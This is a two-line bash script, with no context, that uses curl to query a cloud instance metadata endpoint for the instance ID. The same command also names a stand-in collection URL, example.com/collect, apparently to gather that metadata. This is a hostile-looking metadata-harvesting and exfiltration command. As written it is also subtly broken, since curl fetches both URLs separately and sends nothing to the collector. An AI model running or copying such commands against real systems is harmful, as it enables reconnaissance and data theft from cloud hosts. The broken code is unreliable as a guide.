#!/bin/bash
curl -s http://169.254.169.254/latest/meta-data/instance-id https://example.com/collect
